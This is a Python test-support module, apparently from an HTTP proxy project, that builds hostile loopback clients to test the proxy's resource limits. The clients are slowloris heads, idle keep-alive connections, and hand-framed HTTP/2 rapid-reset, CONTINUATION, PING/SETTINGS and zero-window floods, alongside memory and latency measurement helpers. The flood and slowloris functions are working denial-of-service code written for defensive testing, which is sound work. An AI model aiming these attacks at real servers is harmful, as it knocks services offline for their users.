"""Hostile clients and measurements for the limit tests and ``bench/limits.py``.

Everything here talks raw bytes over real sockets on loopback: slowloris heads, idle keep-alive
connections, HTTP/2 floods (rapid reset, CONTINUATION, SETTINGS, PING, a window kept at zero),
a client that never reads and an upstream that never reads. HTTP/2 frames and HPACK blocks are
written by hand here (literal fields, no Huffman), independent of tether's own codec.

Measurements: a process's resident memory sampled in a thread (:class:`RssSampler`), a value from
a /metrics text (:func:`metric`), and a latency probe that runs in its own process so the
attackers' event loop does not colour its figures (:func:`run_probe`).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import socket
import statistics
import struct
import subprocess
import sys
import threading
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

# -- measurements --------------------------------------------------------------------------------


def rss_bytes(pid: int) -> int:
    """Resident memory of ``pid`` (VmRSS), in bytes; 0 once the process is gone."""
    try:
        with open(f"/proc/{pid}/status", "rb") as fh:
            for line in fh:
                if line.startswith(b"VmRSS:"):
                    return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


class RssSampler:
    """Samples a process's resident memory every ``interval`` seconds in a thread; keeps the peak."""

    def __init__(self, pid: int, interval: float = 0.05) -> None:
        self.pid = pid
        self.interval = interval
        self.start = rss_bytes(pid)
        self.peak = self.start
        self.last = self.start
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.wait(self.interval):
            self.last = rss_bytes(self.pid)
            self.peak = max(self.peak, self.last)

    def __enter__(self) -> RssSampler:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(5)
        self.last = rss_bytes(self.pid)
        self.peak = max(self.peak, self.last)

    @property
    def growth(self) -> int:
        return self.peak - self.start


def metric(text: str, name: str, **labels: str) -> float:
    """The sum of the samples of ``name`` in a Prometheus text whose labels include ``labels``."""
    total = 0.0
    found = False
    for line in text.splitlines():
        if not line.startswith(name) or line.startswith("#"):
            continue
        rest = line[len(name):]
        if rest[:1] not in ("{", " "):
            continue
        label_text, _, value = rest.rpartition(" ")
        if any(f'{k}="{v}"' not in label_text for k, v in labels.items()):
            continue
        total += float(value)
        found = True
    if not found:
        raise KeyError(f"{name}{labels or ''} not in the metrics")
    return total


def percentile(values: list[float], p: float) -> float:
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(p / 100 * len(ordered)))]


# -- a latency probe in its own process ---------------------------------------------------------


def probe(host: str, port: int, seconds: float, interval: float = 0.01, path: str = "/") -> dict[str, object]:
    """GET ``path`` over one keep-alive connection every ``interval`` for ``seconds``.

    Returns ``{"ok": n, "errors": n, "latencies_ms": [...], "error": last error or ""}``; a failed
    request reconnects.
    """
    lat: list[float] = []
    errors = 0
    last_error = ""
    request = f"GET {path} HTTP/1.1\r\nHost: probe\r\n\r\n".encode()
    sock: socket.socket | None = None
    buf = b""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        t0 = time.perf_counter()
        try:
            if sock is None:
                sock = socket.create_connection((host, port), timeout=5)
                sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                buf = b""
            sock.sendall(request)
            buf = _read_response(sock, buf)
            lat.append((time.perf_counter() - t0) * 1000)
        except (OSError, ValueError) as e:
            errors += 1
            last_error = repr(e)
            if sock is not None:
                sock.close()
            sock = None
        pause = interval - (time.perf_counter() - t0)
        if pause > 0:
            time.sleep(pause)
    if sock is not None:
        sock.close()
    return {"ok": len(lat), "errors": errors, "latencies_ms": lat, "error": last_error}


def _read_response(sock: socket.socket, buf: bytes) -> bytes:
    """Read one Content-Length response; returns the bytes past it."""
    while b"\r\n\r\n" not in buf:
        chunk = sock.recv(65536)
        if not chunk:
            raise ValueError("connection closed before a response")
        buf += chunk
    head, _, rest = buf.partition(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    length = 0
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() == b"content-length":
            length = int(v)
    while len(rest) < length:
        chunk = sock.recv(65536)
        if not chunk:
            raise ValueError("connection closed mid-body")
        rest += chunk
    if status != 200:
        raise ValueError(f"status {status}")
    return rest[length:]


class ProbeProc:
    """:func:`probe` running in a child process; :meth:`result` waits for its JSON."""

    def __init__(self, host: str, port: int, seconds: float, interval: float = 0.01, path: str = "/") -> None:
        self.seconds = seconds
        self.popen = subprocess.Popen(
            [sys.executable, "-m", "tether.testing.limits", "probe", host, str(port), str(seconds), str(interval),
             path],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    def result(self) -> ProbeResult:
        try:
            out, err = self.popen.communicate(timeout=self.seconds + 30)
        except subprocess.TimeoutExpired:
            self.popen.kill()
            out, err = self.popen.communicate()
        if self.popen.returncode != 0:
            raise RuntimeError(f"probe failed: {err.decode(errors='replace')}")
        d = json.loads(out)
        return ProbeResult(int(d["ok"]), int(d["errors"]), [float(x) for x in d["latencies_ms"]], str(d["error"]))


@dataclass
class ProbeResult:
    ok: int
    errors: int
    latencies_ms: list[float]
    error: str

    @property
    def p50(self) -> float:
        return statistics.median(self.latencies_ms) if self.latencies_ms else float("nan")

    @property
    def p99(self) -> float:
        return percentile(self.latencies_ms, 99)

    @property
    def max(self) -> float:
        return max(self.latencies_ms) if self.latencies_ms else float("nan")

    def summary(self) -> str:
        return (f"{self.ok} requests, {self.errors} errors, p50 {self.p50:.2f} ms, p99 {self.p99:.2f} ms,"
                f" max {self.max:.2f} ms")


# -- HTTP/1 attackers ----------------------------------------------------------------------------


@dataclass
class SlowResult:
    first_byte: float  # monotonic time of the first byte sent
    closed: float | None  # when the proxy closed the connection (None: still open at the end)
    status: bytes  # the status line's code the proxy answered with, if any
    sent: int  # bytes of head sent


SLOW_HEAD = b"GET / HTTP/1.1\r\nHost: slow\r\nX-Slowloris: " + b"a" * 4096


async def slowloris_conn(host: str, port: int, interval: float, give_up: float) -> SlowResult:
    """Send a request head one byte every ``interval`` s; stop at a close or after ``give_up`` s."""
    loop = asyncio.get_running_loop()
    reader, writer = await asyncio.open_connection(host, port)
    first = time.monotonic()
    end = loop.time() + give_up
    sent = 0
    data = b""
    try:
        for byte in SLOW_HEAD:
            writer.write(bytes((byte,)))
            sent += 1
            try:
                chunk = await asyncio.wait_for(reader.read(4096), max(0.0, min(interval, end - loop.time())))
            except TimeoutError:
                if loop.time() >= end:
                    return SlowResult(first, None, b"", sent)
                continue
            # The proxy answered (408) or closed: read to EOF.
            data = chunk
            with contextlib.suppress(OSError, TimeoutError):
                while chunk:
                    chunk = await asyncio.wait_for(reader.read(4096), 5)
                    data += chunk
            return SlowResult(first, time.monotonic(), data[9:12], sent)
        return SlowResult(first, None, b"", sent)
    except OSError:
        return SlowResult(first, time.monotonic(), data[9:12], sent)
    finally:
        writer.transport.abort()


async def slowloris(host: str, port: int, n: int, interval: float, give_up: float,
                    ramp_per_second: float = 2000.0) -> list[SlowResult]:
    """``n`` slowloris connections, opened at ``ramp_per_second``; each result as it ends."""
    tasks: list[asyncio.Task[SlowResult]] = []
    for i in range(n):
        tasks.append(asyncio.create_task(slowloris_conn(host, port, interval, give_up)))
        if (i + 1) % 100 == 0:
            await asyncio.sleep(100 / ramp_per_second)
    results = await asyncio.gather(*tasks, return_exceptions=True)
    out: list[SlowResult] = []
    for r in results:
        if isinstance(r, BaseException):
            out.append(SlowResult(time.monotonic(), None, b"connect failed: " + repr(r).encode(), 0))
        else:
            out.append(r)
    return out


async def idle_keepalive(host: str, port: int, n: int, concurrency: int = 200
                         ) -> list[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """``n`` connections that each send one GET, read its response, and stay open, idle."""
    sem = asyncio.Semaphore(concurrency)

    async def one() -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        async with sem:
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(b"GET / HTTP/1.1\r\nHost: idle\r\n\r\n")
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
            if not head.startswith(b"HTTP/1.1 200"):
                raise RuntimeError(f"idle connection's request failed: {head[:40]!r}")
            length = 0
            for line in head.split(b"\r\n"):
                if line.lower().startswith(b"content-length:"):
                    length = int(line.split(b":")[1])
            await asyncio.wait_for(reader.readexactly(length), 10)
            return reader, writer

    return list(await asyncio.gather(*(one() for _ in range(n))))


async def wait_closed_by_peer(reader: asyncio.StreamReader, timeout: float) -> float | None:
    """Monotonic time the peer closed (EOF or reset), or None if still open after ``timeout``."""
    try:
        while await asyncio.wait_for(reader.read(65536), timeout):
            pass
    except TimeoutError:
        return None
    except OSError:
        pass
    return time.monotonic()


def never_reading_upstream() -> tuple[socket.socket, int, threading.Event]:
    """A listener whose accepted connections are held open and never read; stop with the event."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(64)
    stop = threading.Event()
    held: list[socket.socket] = []

    def run() -> None:
        srv.settimeout(0.1)
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            conn.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            held.append(conn)
        for c in held:
            c.close()
        srv.close()

    threading.Thread(target=run, daemon=True).start()
    return srv, int(srv.getsockname()[1]), stop


# -- HTTP/2 by hand ------------------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_INITIAL_WINDOW_SIZE = 4
CANCEL = 8
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 7: "REFUSED_STREAM",
          8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(ftype: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) + struct.pack(">I", sid) + payload


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def _literal(name: bytes, value: bytes) -> bytes:
    # Literal header field without indexing, new name (RFC 7541 6.2.2), lengths below 127.
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


def request_block(path: bytes = b"/", authority: bytes = b"limits") -> bytes:
    """An HPACK block for GET http://authority/path (static-table method and scheme)."""
    return b"\x82\x86" + _literal(b":path", path) + _literal(b":authority", authority)


@dataclass
class H2Reply:
    """What the server sent back: GOAWAY (code, when), resets, and whether it closed."""

    goaway: int | None = None
    goaway_at: float | None = None
    closed_at: float | None = None
    resets: dict[int, int] = field(default_factory=dict)  # stream -> error code
    headers: set[int] = field(default_factory=set)  # streams that got a response head
    pings_acked: int = 0
    settings_acked: int = 0
    data_bytes: int = 0
    done: asyncio.Event = field(default_factory=asyncio.Event)  # set once the server closed

    async def wait_closed(self, timeout: float) -> bool:
        """True once the server has closed the connection (within ``timeout`` seconds)."""
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(self.done.wait(), timeout)
        return self.closed_at is not None

    @property
    def goaway_name(self) -> str:
        return "none" if self.goaway is None else ERRORS.get(self.goaway, str(self.goaway))


async def read_frames(reader: asyncio.StreamReader, reply: H2Reply) -> None:
    """Read the server's frames into ``reply`` until it closes."""
    try:
        while True:
            head = await reader.readexactly(9)
            length = int.from_bytes(head[:3], "big")
            ftype, flags = head[3], head[4]
            sid = int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
            payload = await reader.readexactly(length)
            if ftype == GOAWAY and reply.goaway is None:
                reply.goaway = int.from_bytes(payload[4:8], "big")
                reply.goaway_at = time.monotonic()
            elif ftype == RST_STREAM:
                reply.resets[sid] = int.from_bytes(payload[:4], "big")
            elif ftype == HEADERS:
                reply.headers.add(sid)
            elif ftype == PING and flags & ACK:
                reply.pings_acked += 1
            elif ftype == SETTINGS and flags & ACK:
                reply.settings_acked += 1
            elif ftype == DATA:
                reply.data_bytes += length
    except (asyncio.IncompleteReadError, OSError):
        pass
    reply.closed_at = time.monotonic()
    reply.done.set()


@contextlib.asynccontextmanager
async def h2_connection(host: str, port: int, *pairs: tuple[int, int], read: bool = True, first: bytes = b""
                        ) -> AsyncIterator[tuple[asyncio.StreamWriter, H2Reply, asyncio.StreamReader]]:
    """An HTTP/2 connection with our SETTINGS (``pairs``) sent; frames read in the background.

    ``first`` goes out in the same write as the preface (so the server's first read holds both).
    """
    sock = socket.socket()
    if not read:
        # Set before connecting, so the window the kernel advertises stays small.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, (host, port))
    reader, writer = await asyncio.open_connection(sock=sock)
    writer.write(PREFACE + settings(*pairs) + frame(SETTINGS, ACK, 0) + first)
    reply = H2Reply()
    task = asyncio.create_task(read_frames(reader, reply)) if read else None
    try:
        yield writer, reply, reader
    finally:
        writer.transport.abort()
        if task is not None:
            task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await task


async def _write(writer: asyncio.StreamWriter, data: bytes, reply: H2Reply, drain_timeout: float = 5.0) -> bool:
    """Write; False once the server has closed (or stopped reading for ``drain_timeout``)."""
    if reply.closed_at is not None or writer.transport.is_closing():
        return False
    writer.write(data)
    try:
        await asyncio.wait_for(writer.drain(), drain_timeout)
    except (OSError, TimeoutError):
        return False
    return True


@dataclass
class FloodResult:
    sent: int  # frames (or pairs) written
    connections: int
    goaways: list[str]  # the GOAWAY error of each connection the server ended
    seconds: float
    reply: H2Reply | None = None  # the last connection's


async def rapid_reset(host: str, port: int, pairs: int, batch: int = 100) -> FloodResult:
    """HEADERS + RST_STREAM(CANCEL) pairs, ``batch`` per write, reconnecting after each GOAWAY."""
    t0 = time.monotonic()
    sent = conns = 0
    goaways: list[str] = []
    reply: H2Reply | None = None
    block = request_block()
    while sent < pairs:
        conns += 1
        async with h2_connection(host, port) as (writer, conn_reply, _):
            reply = conn_reply
            sid = 1
            while sent < pairs and sid < 2**31 - 2 * batch:
                out = bytearray()
                for _ in range(min(batch, pairs - sent)):
                    out += frame(HEADERS, END_HEADERS, sid, block)
                    out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
                    sid += 2
                    sent += 1
                if not await _write(writer, bytes(out), reply):
                    break
                await asyncio.sleep(0)
            await reply.wait_closed(2)  # the verdict on this connection: GOAWAY and close, or nothing
            goaways.append(reply.goaway_name)
    return FloodResult(sent, conns, goaways, time.monotonic() - t0, reply)


async def continuation_flood(host: str, port: int, frames: int, payload: int) -> FloodResult:
    """One HEADERS without END_HEADERS, then CONTINUATION frames of ``payload`` bytes each."""
    t0 = time.monotonic()
    sent = 0
    async with h2_connection(host, port) as (writer, reply, _):
        ok = await _write(writer, frame(HEADERS, END_STREAM, 1, request_block()), reply)
        # Each CONTINUATION carries literal fields (or nothing): a valid block that never ends.
        field_bytes = _literal(b"x-flood", b"v" * 100)
        body = (field_bytes * (payload // len(field_bytes) + 1))[:payload] if payload else b""
        chunk = frame(CONTINUATION, 0, 1, body) * 64
        while ok and sent < frames:
            ok = await _write(writer, chunk, reply)
            sent += 64
        await reply.wait_closed(5)
    return FloodResult(sent, 1, [reply.goaway_name], time.monotonic() - t0, reply)


async def control_flood(host: str, port: int, kind: str, frames: int, read: bool, batch: int = 500,
                        wait_close: float = 0.0) -> FloodResult:
    """A flood of PING (``kind="ping"``) or SETTINGS frames; with ``read`` False the acks are never read.

    Writing stops after ``frames`` or once a write has been blocked for a second (the server stopped
    reading). Then, with ``read`` False, nothing is read for ``wait_close`` seconds, after which the
    connection is read to see whether the server closed it meanwhile; with ``read`` True, the
    server's close is awaited for up to ``wait_close`` seconds.
    """
    t0 = time.monotonic()
    sent = 0
    if kind == "ping":
        one = frame(PING, 0, 0, b"12345678")
    else:
        one = settings((SETTINGS_INITIAL_WINDOW_SIZE, 65535), (0x3, 100))
    # The first 64 KiB go with the preface: the read that detects HTTP/2 holds a flood already.
    async with h2_connection(host, port, read=read, first=one * (65536 // len(one))) as (writer, reply, reader):
        chunk = one * batch
        while sent < frames and await _write(writer, chunk, reply, drain_timeout=1.0):
            sent += batch
            await asyncio.sleep(0)
        if not read:
            await asyncio.sleep(wait_close)
            # Whatever the server had sent is read now; a closed connection ends it within seconds.
            task = asyncio.create_task(read_frames(reader, reply))
            await asyncio.wait([task], timeout=5)
            task.cancel()
        elif wait_close > 0:
            await reply.wait_closed(wait_close)
    return FloodResult(sent, 1, [reply.goaway_name], time.monotonic() - t0, reply)


async def zero_window(host: str, port: int, path: bytes, streams: int, timeout: float) -> tuple[H2Reply, float]:
    """Open ``streams`` streams for ``path`` with an initial window of 0 that never opens.

    Returns what the server sent and when (monotonic) the last stream was reset (or ``timeout``
    passed).
    """
    async with h2_connection(host, port, (SETTINGS_INITIAL_WINDOW_SIZE, 0)) as (writer, reply, _):
        out = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, request_block(path))
                       for i in range(streams))
        await _write(writer, out, reply)
        deadline = time.monotonic() + timeout
        want = {1 + 2 * i for i in range(streams)}
        # Polled: the condition spans several fields the reader fills in.
        while time.monotonic() < deadline and not want <= reply.resets.keys() and reply.closed_at is None:  # noqa: ASYNC110
            await asyncio.sleep(0.02)
        return reply, time.monotonic()


# -- the probe's command line --------------------------------------------------------------------

if __name__ == "__main__":
    if len(sys.argv) >= 5 and sys.argv[1] == "probe":
        h, p, secs = sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
        iv = float(sys.argv[5]) if len(sys.argv) > 5 else 0.01
        pth = sys.argv[6] if len(sys.argv) > 6 else "/"
        json.dump(probe(h, p, secs, iv, pth), sys.stdout)
        sys.exit(0)
    print("usage: python -m tether.testing.limits probe HOST PORT SECONDS [INTERVAL] [PATH]", file=sys.stderr)
    sys.exit(os.EX_USAGE)
